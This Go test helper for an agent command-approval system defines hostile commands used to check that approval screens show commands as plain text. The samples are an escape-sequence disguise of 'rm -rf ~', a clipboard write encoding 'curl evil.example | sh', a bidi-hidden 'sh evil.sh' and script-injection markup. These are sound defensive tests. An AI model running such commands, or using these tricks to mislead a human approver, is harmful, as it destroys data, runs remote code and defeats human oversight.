package testkit

import (
	"encoding/json"
	"strings"
	"time"

	"github.com/askuser/askuser/approval"
	"github.com/askuser/askuser/auq"
	"github.com/askuser/askuser/hub"
)

// HostileCommand is a command an agent may ask leave to run that would
// restyle, mislead or overflow a surface taking it for anything but
// text.
type HostileCommand struct {
	Name    string
	Command string
	// Shown is a part of the command that the surface must show as it
	// is, for a surface that shows the command at all.
	Shown string
}

// HostileCommands are the commands every surface that shows an approval
// is tested with: each is shown as text, or not at all.
var HostileCommands = []HostileCommand{
	{"escape sequences", "echo \x1b[2J\x1b[1;1H\x1b[31mall clear\x1b[0m; rm -rf ~", "rm -rf ~"},
	{"OSC 52 clipboard", "printf '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07' && make deploy", "make deploy"},
	{"bidi override", "cat notes\u202e txt.hs\u202c && sh evil.sh", "sh evil.sh"},
	{"markup", `echo "<script>alert(1)</script><img src=x onerror=alert(2)>" > index.html`, "<script>alert(1)</script>"},
	{"a megabyte", "echo start && " + strings.Repeat("x", 1<<20), "echo start"},
}

// ApprovalRequest returns the AskUserQuestion questionnaire that package
// approval shows for agent asking to run command, as the hub stores it.
// A command over approval.MaxCommandLen, which an approval refuses, is
// in the previews as approval.Details cuts it.
func ApprovalRequest(agent, command string) json.RawMessage {
	r := &approval.Request{Agent: agent, Tool: "Bash", Action: approval.ActionRun, Command: command}
	short := *r
	if len(command) > approval.MaxCommandLen {
		short.Command = "x"
	}
	shown, err := approval.Show(&short)
	if err != nil {
		panic("testkit: the approval cannot be shown: " + err.Error())
	}
	for i := range shown.Questions[0].Options {
		shown.Questions[0].Options[i].Preview = approval.Details(r, auq.MaxPreviewLen)
	}
	b, err := json.Marshal(shown)
	if err != nil {
		panic(err)
	}
	return b
}

// ApprovalQuestion returns the approval of agent in project asking to
// run command as the hub stores it, made at created, without a deadline.
func ApprovalQuestion(id, agent, project, command string, created time.Time) *hub.Question {
	return &hub.Question{ID: id, Status: "waiting", Created: created, Request: ApprovalRequest(agent, command),
		Tag: hub.Tag{Agent: agent, Project: project, Contract: hub.ContractAskUserQuestion, Kind: hub.KindApproval, Wants: "run a command", Questions: 1}}
}
